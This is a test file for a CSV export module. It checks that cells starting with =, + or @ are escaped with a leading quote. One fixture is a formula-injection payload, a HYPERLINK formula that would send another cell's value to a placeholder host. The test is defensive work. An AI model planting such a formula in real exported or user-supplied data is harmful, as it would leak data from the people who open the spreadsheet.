import { text } from 'node:stream/consumers';
import type { Readable } from 'node:stream';
import { exportTable, fromArray, type ExportColumn } from './table-export';

interface Row {
  unit: string;
  count: number;
}

const columns: ExportColumn<Row>[] = [
  { heading: { ru: 'Подразделение', kk: 'Бөлімше', en: 'Unit' }, value: (row) => row.unit },
  { heading: { ru: 'Число', kk: 'Саны', en: 'Count' }, value: (row) => row.count },
];

async function csvOf(rows: Row[]): Promise<string> {
  const headers: Record<string, string> = {};
  const file = exportTable(
    { header: (name, value) => (headers[name] = value) },
    { format: 'csv', lang: 'en' },
    'units',
    columns,
    fromArray(rows),
  );
  expect(headers['content-type']).toMatch(/^text\/csv/);
  return (await text(file.getStream() as Readable)).replace(/^\uFEFF/, '');
}

describe('a CSV download', () => {
  // A unit is text a filer chooses: a spreadsheet would run "=HYPERLINK(...)" in the auditor's hands.
  it('writes a cell that a spreadsheet would run as a formula with a leading quote, and numbers as numbers', async () => {
    const csv = await csvOf([
      { unit: '=HYPERLINK("https://example.org/?"&A2,"open")', count: -2 },
      { unit: '+1', count: 3 },
      { unit: '@SUM(A1)', count: 0 },
      { unit: 'astana', count: 1 },
    ]);
    const lines = csv.trim().split('\n');
    expect(lines[0]).toBe('Unit,Count');
    expect(lines[1]).toBe(`"'=HYPERLINK(""https://example.org/?""&A2,""open"")",-2`);
    expect(lines.slice(2)).toEqual(["'+1,3", "'@SUM(A1),0", 'astana,1']);
  });
});
